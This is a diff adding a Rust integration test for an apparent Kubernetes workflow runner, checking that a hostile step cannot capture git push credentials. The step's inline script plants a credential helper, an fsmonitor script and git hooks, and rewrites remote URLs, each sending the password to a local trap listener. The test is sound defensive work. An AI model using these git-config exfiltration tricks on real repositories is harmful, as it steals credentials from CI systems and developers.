@@ -395,3 +395,75 @@ async fn keep_on_failure_keeps_a_failed_runs_volume_until_the_run_is_deleted() {
         .unwrap_or_else(|e| panic!("{e}"));
     claims_gone(&s, &run).await;
 }
+
+#[tokio::test]
+async fn a_step_that_repoints_origin_and_plants_hooks_never_gets_the_push_credentials() {
+    use coxswain_test_support::auth_trap::AuthTrap;
+    let server = GitHttp::start("robot", "s3cret-pw-77").expect("git over http");
+    let repo = server.create_repo("app");
+    let trap = AuthTrap::start().expect("the trap listens");
+    let s = Setup::new(&[]).await;
+    let workspace = format!(
+        "    repos:\n      - {{name: app, url: \"{}\", ref: main, secretRef: {{name: git-app}}}}\n    push: onSuccess\n",
+        repo.url
+    );
+    // Anything planted that runs calls the trap, with the password in its
+    // path when it has one.
+    let steps = r#"    - key: edit
+      script:
+        source: |
+          set -e
+          cd app
+          echo more >> README
+          git commit --quiet -am "by the run"
+          git remote set-url origin "TRAP/app.git"
+          git config url."TRAP/".insteadOf "HONEST/"
+          git config credential.helper '!f() { git ls-remote "TRAP/helper/$COXSWAIN_GIT_PASSWORD" >/dev/null 2>&1; }; f'
+          printf '#!/bin/sh\ngit ls-remote "TRAP/fsmonitor/$COXSWAIN_GIT_PASSWORD" >/dev/null 2>&1\nexit 1\n' > .git/fsmonitor.sh
+          chmod +x .git/fsmonitor.sh
+          git config core.fsmonitor "$PWD/.git/fsmonitor.sh"
+          for hook in pre-push reference-transaction; do
+            printf '#!/bin/sh\ngit ls-remote "TRAP/%s/$COXSWAIN_GIT_PASSWORD" >/dev/null 2>&1\n' "$hook" > ".git/hooks/$hook"
+            chmod +x ".git/hooks/$hook"
+          done
+          printf '{"commit": "%s"}' "$(git rev-parse HEAD)"
+"#
+    .replace("TRAP", trap.url("").trim_end_matches('/'))
+    .replace("HONEST", &format!("http://127.0.0.1:{}", server.port()));
+    s.apply(&flow("hostile", &workspace, &steps));
+    s.kubectl
+        .run(&[
+            "create",
+            "secret",
+            "generic",
+            "git-app",
+            "-n",
+            s.ns(),
+            "--from-literal=username=robot",
+            "--from-literal=password=s3cret-pw-77",
+            "--dry-run=client",
+            "-o",
+            "yaml",
+        ])
+        .and_then(|yaml| s.kubectl.apply(s.ns(), &yaml))
+        .unwrap_or_else(|e| panic!("{e}"));
+    let run = start(&s, "hostile");
+    let r = &wait_run(&s, &run, &["Succeeded", "Failed"]).await["status"];
+    let seen = trap.seen();
+    assert!(
+        seen.requests.is_empty() && seen.authorizations.is_empty(),
+        "the trap was reached: {seen:?}\n{r:#}"
+    );
+    assert_eq!(r["phase"], "Succeeded", "{r:#}\n{}", s.logs());
+    let edited = r["steps"]["edit"]["output"]["commit"]
+        .as_str()
+        .expect("commit");
+    let branch = format!("coxswain/{run}");
+    assert_eq!(
+        server.branch("app", &branch).as_deref(),
+        Some(edited),
+        "pushed to the flow's URL"
+    );
+    assert_eq!(r["workspace"]["pushed"][0]["commit"], edited);
+    claims_gone(&s, &run).await;
+}
